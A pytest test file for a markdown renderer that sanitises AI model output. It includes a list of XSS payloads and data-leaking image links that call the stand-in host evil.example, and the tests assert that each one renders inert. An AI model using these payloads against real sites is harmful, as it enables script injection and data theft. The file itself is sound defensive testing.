"""Text of a model becomes allowed nodes or stays text; whole and piecemeal alike."""

import random
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from appliance.config import share_folder
from appliance.http.blocks import Blocks
from appliance.http.markdown import render
from appliance.http.nodes import (
    ATTRIBUTES,
    HTML_TAGS,
    MATH_ATTRIBUTES,
    MATH_TAGS,
    Child,
    Node,
    element,
    text_of,
)
from tests.browser.office import ANSWER

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#x0A;script:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "[a](//evil.example)",
    "[a](/account/keys)",
    "[a](https://user:pass@evil.example)",
    "[a](https://good.example\\@evil.example)",
    "<javascript:alert(1)>",
    "![a](https://evil.example/?q=secret)",
    "![a](//evil.example/x)",
    "![a][r]\n\n[r]: https://evil.example/x",
    "[![a](https://evil.example/x)](https://evil.example)",
    "```<script>\nalert(1)\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "| <b>a</b> |\n|---|\n| <img src=x> |",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{background:url(//evil.example)}{x}$",
    "$\\unicode{x}\\class{y}{z}$",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "# <b onclick=x>\n\n> <i>\n\n- <u>",
    "&lt;script&gt;&#60;script&#62;",
    "[" * 500 + "a" + "](x)" * 500,
    "> " * 300 + "deep",
    "$" + "{" * 400 + "x" + "}" * 400 + "$",
    "*" * 3000,
    "\x00\x01\u202e<script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert(text: str) -> None:
    for node in _all(render(text, str)):
        allowed = MATH_ATTRIBUTES if node.tag in MATH_TAGS else ATTRIBUTES.get(node.tag, frozenset())
        assert node.tag in HTML_TAGS | MATH_TAGS
        assert node.attributes.keys() <= allowed
        if "href" in node.attributes:
            assert node.attributes["href"].startswith(("/link?to=http", "/link?to=mailto"))
            assert node.attributes["rel"] == "noopener noreferrer"


def test_no_tag_or_attribute_off_the_list_can_be_made() -> None:
    for tag, attributes in (("script", {}), ("img", {}), ("p", {"onclick": "x"}), ("a", {"style": "x"})):
        with pytest.raises(ValueError, match="not an allowed element"):
            element(tag, [], **attributes)


def test_an_image_becomes_a_note_about_its_host() -> None:
    (paragraph,) = render("![도표](https://evil.example/x.png)", str)
    assert text_of(paragraph) == "External image blocked: evil.example (도표)"


def test_a_link_shows_where_it_leads() -> None:
    (paragraph,) = render("[위키](https://wiki.example/a)", str)
    assert text_of(paragraph) == "위키 (wiki.example)"


def test_formulas_are_mathml_and_broken_ones_stay_source() -> None:
    (paragraph,) = render("$\\frac{1}{2}$ and $x^2^3$", str)
    tags = [node.tag for node in _all([paragraph])]
    assert "mfrac" in tags
    assert "x^2^3" in text_of(paragraph)


def test_prices_are_not_formulas() -> None:
    assert text_of(render("It costs $5 or $6 today.", str)[0]) == "It costs $5 or $6 today."


def test_code_is_coloured_by_classes_and_keeps_every_character() -> None:
    source = "def f(x):\n    return '가' + x  # 끝"
    (block,) = render(f"```python\n{source}\n```", str)
    code = next(node for node in _all([block]) if node.tag == "code")
    assert text_of(code) == source
    assert any(isinstance(child, Node) and child.attributes == {"class": "k"} for child in code.children)


@pytest.mark.parametrize(
    "text",
    [
        ANSWER,
        *HOSTILE,
        "a\r\nb\r\n\r\nc",
        "1. a\n\n   b\n\n2. c\n\nend",
        "~~~\nx\n~~~\ny",
        "\n\n \nlate",
        "[a]: https://a.example\n\nb\n",
    ],
)
def test_piecemeal_gives_the_blocks_of_the_whole(text: str) -> None:
    chance = random.Random(len(text))  # noqa: S311 - reproducible cuts, not secrets
    whole = Blocks(str)
    expected = [*whole.feed(text), *whole.finish()]
    for _ in range(5):
        pieces = Blocks(str)
        got: list[Node] = []
        rest = text
        while rest:
            size = chance.randint(1, 40)
            got += pieces.feed(rest[:size])
            rest = rest[size:]
        assert got + pieces.finish() == expected


def test_blocks_of_the_demonstration_are_those_of_a_full_page() -> None:
    blocks = Blocks(str)
    assert [*blocks.feed(ANSWER), *blocks.finish()] == render(ANSWER, str)


def test_a_closed_code_block_is_finished_at_once_and_an_open_one_is_not() -> None:
    blocks = Blocks(str)
    assert blocks.feed("```py\nx = 1\n\n") == []
    assert blocks.tail == "```py\nx = 1\n\n"
    assert len(blocks.feed("```\n")) == 1
    assert blocks.tail == ""


def test_the_page_builds_from_the_same_lists_as_the_server() -> None:
    script = (share_folder("web") / "static" / "js" / "nodes.js").read_text("utf-8")
    strings = re.findall(r"new Set\(\s*\(?([^;]+?)\)?\.split", script)
    html, math, attributes = (set("".join(re.findall(r'"([^"]*)"', found)).split()) for found in strings)
    assert html == HTML_TAGS
    assert math == MATH_TAGS
    assert attributes == MATH_ATTRIBUTES | set().union(*ATTRIBUTES.values())


def test_no_script_of_ours_meets_an_html_parser() -> None:
    for path in Path(share_folder("web") / "static" / "js").glob("*.js"):
        source = path.read_text("utf-8")
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "DOMParser"):
            assert sink not in source, path.name


def _all(nodes: list[Node] | list[Child]) -> list[Node]:
    found: list[Node] = []
    for node in nodes:
        if isinstance(node, Node):
            found += [node, *_all(node.children)]
    return found


@given(text=st.text(alphabet="a가 \n\r`~#*->|$[]()!1.\t:=_\\<", max_size=120), size=st.integers(1, 30))
def test_any_text_in_any_pieces_ends_in_blocks_and_loses_no_reader(text: str, size: int) -> None:
    whole, pieces = Blocks(str), Blocks(str)
    expected = [*whole.feed(text), *whole.finish()]
    got: list[Node] = []
    for start in range(0, len(text), size):
        got += pieces.feed(text[start : start + size])
    assert got + pieces.finish() == expected
